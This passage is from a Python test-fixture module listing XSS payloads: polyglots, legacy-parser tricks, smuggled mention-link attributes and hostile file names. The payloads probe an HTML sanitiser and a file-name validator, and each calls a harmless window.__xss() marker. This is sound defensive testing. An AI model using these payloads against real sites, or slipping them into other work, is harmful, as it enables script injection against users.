    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.__xss()//'>",
    "'\"--></style></script><script>window.__xss()</script>",
    "\"'><img src=x onerror=window.__xss()><!--",
    "'\"><svg/onload=window.__xss()>\"'><script>window.__xss()</script>",
    "\">'><details/open/ontoggle=window.__xss()>",
    '-->\'"/></sCript><svG x=">" onload=window.__xss()>',
    "';window.__xss()//';window.__xss()//\";window.__xss()//\";"
    "window.__xss()//--></SCRIPT>\">'><SCRIPT>window.__xss()</SCRIPT>",
    "<svg><style>{font-family:'<iframe/onload=window.__xss()>'}</style></svg>",
    "</textarea></title></noscript></style><img src=x onerror=window.__xss()>",
    "\"`'><script>\\x3Bwindow.__xss()</script>",
    '<a href="javascript&colon;window.__xss()">'
    "<img src=x onerror=window.__xss()><svg onload=window.__xss()></a>",
    "%3Cimg%20src%3Dx%20onerror%3Dwindow.__xss()%3E<img src=x onerror=window.__xss()>",
    '<!--<img src="--><img src=x onerror=window.__xss()//">',
)

# ---------------------------------------------------------------------------------------------
# 14. Legacy-parser tricks: ran in old browsers (IE treated backticks as quotes, some engines
#     skipped NUL references), inert in a modern parser; a sanitiser must still not choke on them.
# ---------------------------------------------------------------------------------------------
LEGACY_PARSERS = (
    f"<img src=`x`onerror=`{_X}`>",
    f"<a href=`{_JS}`>backtick</a>",
    f"<img src=x alt=`x`onerror={_X}>",
    f'<a href="java&#0;script:{_X}">x</a>',
    f'<a href="&#x6aavascript:{_X}">x</a>',
    f"<img src=x onerror=`{_X}`>",
)

# ---------------------------------------------------------------------------------------------
# 15. Mention links: the only <a> attributes beyond href/title/rel are class="mention" and a
#     data-person of digits (meent/sanitize.py's ATTRIBUTE_VALUES). Values that smuggle more in,
#     other classes, and script in the mention's address or next to it.
# ---------------------------------------------------------------------------------------------
_MENTION_HREF = "/people/1/"
MENTION_LINKS = (
    f'<a class="mention" data-person="1 onmouseover={_X}" href="{_MENTION_HREF}">@Anna</a>',
    f'<a class="mention" data-person="1" onmouseover="{_X}" href="{_MENTION_HREF}">@Anna</a>',
    f'<a class="mention evil" data-person="1" href="{_MENTION_HREF}" onfocus="{_X}">@Anna</a>',
    f'<a class="mention" data-person="1" href="{_JS}">@Anna</a>',
    f'<a class="mention" data-person="1" href="java&#x09;script:{_X}">@Anna</a>',
    f'<a class="mention" data-person="1&quot; onclick=&quot;{_X}" href="{_MENTION_HREF}">@A</a>',
    f'<a class="mention" data-person="1" style="background:url({_JS})" href="/">@Anna</a>',
    f'<span class="mention" data-person="1" onclick="{_X}">@Anna</span>',
    f'<a class="mention" data-person="-1" data-id="{_X}" href="{_MENTION_HREF}">@Anna</a>',
    f"<a class=mention data-person=1 href={_MENTION_HREF} onmouseenter={_X}>@Anna</a>",
)

# ---------------------------------------------------------------------------------------------
# 16. File and folder names (files/services.clean_name refuses / \\ : * ? " < > | and control
#     characters, so most payloads above never become a name): names that pass that rule and
#     still try to break out of an attribute, a URL or a Content-Disposition header, or to look
#     like markup once decoded. Used by the file library's path (test_xss_paths.py); not a
#     section of PAYLOADS, which every other path runs.
# ---------------------------------------------------------------------------------------------
FILE_NAMES = (
    f"' onmouseover='{_X}' x='.pdf",
    f"&lt;img src=x onerror={_X}&gt;.pdf",
    f"&#60;script&#62;{_X}&#60;&#47;script&#62;.txt",
    f"javascript&#58;{_X}.pdf",
    f"%3Cscript%3E{_X}%3C%2Fscript%3E.pdf",
    "{{ request.user.password }} {% debug %}.txt",
    "\u202efdp.exe.pdf",  # right-to-left override: "fdp.exe" shown backwards
    f"verslag.pdf; filename*=UTF-8''{_X}.html",
    f"` onfocus=`{_X}` autofocus `.txt",
    f"'; {_X}; //.txt".replace("/", "-"),
)

SECTIONS: dict[str, tuple[str, ...]] = {
    "script-tags": SCRIPT_TAGS,
    "event-handlers": EVENT_HANDLERS,
    "url-schemes": URL_SCHEMES,
    "svg-mathml": SVG_MATHML,
    "raw-text-tricks": RAW_TEXT_TRICKS,
    "css": CSS,
    "dangerous-elements": DANGEROUS_ELEMENTS,
    "attribute-breakouts": ATTRIBUTE_BREAKOUTS,
    "entity-encoded": ENTITY_ENCODED,
    "unicode": UNICODE_TRICKS,
    "long-values": LONG_VALUES,
    "linkify": LINKIFY,
    "polyglots": POLYGLOTS,
    "legacy-parsers": LEGACY_PARSERS,
    "mention-links": MENTION_LINKS,
}

PAYLOADS: tuple[str, ...] = tuple(p for section in SECTIONS.values() for p in section)
PAYLOAD_SECTIONS: tuple[str, ...] = tuple(
    name for name, section in SECTIONS.items() for _ in section
)
